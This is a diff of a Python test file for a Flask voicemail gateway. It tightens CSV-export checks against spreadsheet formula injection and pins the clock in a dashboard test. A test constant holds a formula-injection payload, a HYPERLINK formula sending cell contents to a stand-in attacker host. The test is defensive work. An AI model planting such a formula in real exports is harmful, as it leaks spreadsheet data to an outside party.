@@ -11,14 +11,16 @@ import re
 from datetime import timedelta
 
 import pytest
+import time_machine
 from flask import Flask
 from flask.testing import FlaskClient
 
 from gateway.config import Settings
 from gateway.prompts import PACKAGED_DIR
+from gateway.store.csv_cells import FORMULA_START, restore
 from gateway.store.models import utcnow
 from tests.helpers import Services
-from tests.web.support import log_call, login, make_app, post, save_voicemail
+from tests.web.support import NOW, log_call, login, make_app, post, save_voicemail
 from web.voicemail import known_prompt_names
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -123,8 +125,9 @@ def test_the_call_log_exports_as_csv_with_its_filters_and_inert_names(
     rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
     assert rows[0][:6] == ["time", "number", "name", "caller_kind", "action", "what_happened"]
     assert len(rows) == 2
-    assert rows[1][1] == "+33612345678" and rows[1][5] == "left a 12 s message"
+    assert restore(rows[1][1]) == "+33612345678" and rows[1][5] == "left a 12 s message"
     assert rows[1][2] == "'" + HOSTILE  # a spreadsheet shows it as text, never runs it
+    assert all(cell[:1] not in FORMULA_START for row in rows for cell in row)
     french(client)
     rows = list(csv.reader(io.StringIO(text(client.get("/calls/export.csv")))))
     assert len(rows) == 3 and "a laissé un message de 12 s" in {r[5] for r in rows}
@@ -215,14 +218,17 @@ def test_the_calls_page_and_the_dashboard_carry_their_live_urls(client: FlaskCli
 # ---------------------------------------------------------------------------- item 7
 
 
+@pytest.mark.clock
 def test_the_dashboard_counts_messages_apart_from_calls_sent_to_voicemail(
-        client: FlaskClient, settings: Settings, service: Services) -> None:
-    now = utcnow()
-    for i in range(7):
-        ended(service, f"061111111{i}", "caller hung up during the greeting", 3.0,
-              action="voicemail", minutes=5 + i)
-    save_voicemail(service, settings, "+33611111110", seconds=12, at=now)
-    page = client.get("/").get_data(as_text=True)
+        app: Flask, settings: Settings, service: Services) -> None:
+    # "Today" starts at midnight in Paris: pinned, so minutes ago is still today.
+    with time_machine.travel(NOW, tick=False), app.test_client() as client:
+        login(client, service)
+        for i in range(7):
+            ended(service, f"061111111{i}", "caller hung up during the greeting", 3.0,
+                  action="voicemail", minutes=5 + i)
+        save_voicemail(service, settings, "+33611111110", seconds=12, at=utcnow())
+        page = client.get("/").get_data(as_text=True)
     today = page[page.index('id="counts-today"'):page.index('id="counts-week"')]
     assert "<dt>sent to voicemail</dt><dd>7</dd>" in today  # was "voicemail 7"
     assert "<dt>messages left</dt><dd>1</dd>" in today
